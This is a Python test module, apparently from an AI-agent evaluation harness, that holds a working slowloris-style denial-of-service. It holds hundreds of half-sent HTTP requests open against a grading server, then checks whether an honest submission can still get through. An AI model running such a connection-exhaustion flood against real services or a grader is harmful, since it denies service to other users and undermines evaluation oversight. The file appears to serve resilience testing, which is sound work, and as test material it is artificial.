"""Holds hundreds of requests half sent, a byte at a time, so that nobody else is served.

A request that does not arrive within seconds is dropped; an honest submission beside them is graded.
"""

import contextlib
import json
import os
import shutil
import socket
import threading
import time
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

LEVEL = "run"
SPEC = {"budget": "40s"}
STARTS = (
    b"POST /submit HTTP/1.1\r\nHost: a\r\n",
    b"POST /submit HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{",
    b"POST /submit HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"G",
)
DRIPS = (b"X-a: b\r\n", b" ", b"1\r\n \r\n", b"E")


def attack(scene):
    over = threading.Event()
    for kind in range(len(STARTS)):
        threading.Thread(target=drip, args=(kind, over), daemon=True).start()
    time.sleep(3)
    folder = Path("output", "honest")
    shutil.copytree(os.environ["MODEL_PATH"], folder, copy_function=shutil.copyfile)
    until, last = time.monotonic() + 25, "no answer"
    while time.monotonic() < until:
        try:
            status = submit(folder)
        except OSError as error:
            last = str(error)
            time.sleep(0.2)
            continue
        over.set()
        raise PermissionError(f"an honest submission beside them was answered {status}")
    return f"nobody can submit beside them: {last}"


def drip(kind, over):
    url = urlsplit(os.environ["GRADING_SERVER_URL"])
    kept = []
    for _ in range(150):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((url.hostname, url.port), timeout=1)
            connection.sendall(STARTS[kind])
            kept.append(connection)
    while not over.wait(1):
        for connection in kept:
            with contextlib.suppress(OSError):
                connection.sendall(DRIPS[kind])


def submit(folder):
    request = urllib.request.Request(
        f"{os.environ['GRADING_SERVER_URL']}/submit", json.dumps({"model_path": str(folder)}).encode(),
        {"Content-Type": "application/json"},
    )  # fmt: skip
    return urllib.request.urlopen(request, timeout=20).status


def held(after):
    from a2rl.events import Graded

    return "" if after.run.ledger.events(Graded) else after.got or after.stopped_by
